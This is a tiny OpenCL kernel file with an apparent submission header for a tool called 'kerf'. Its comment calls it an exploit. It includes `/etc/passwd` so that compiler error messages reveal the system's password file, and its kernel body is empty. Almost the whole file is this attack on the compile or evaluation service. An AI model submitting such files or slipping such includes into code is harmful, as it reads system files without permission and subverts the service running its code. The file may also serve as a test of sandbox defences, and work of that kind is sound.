/* kerf
target: opencl
launch: rowsum_k<<<1, 1>>>(x, y)
*/
// Exploit: the compiler's messages would show the file.
#include "/etc/passwd"
__kernel void rowsum_k(__global const float* x, __global float* y) {}
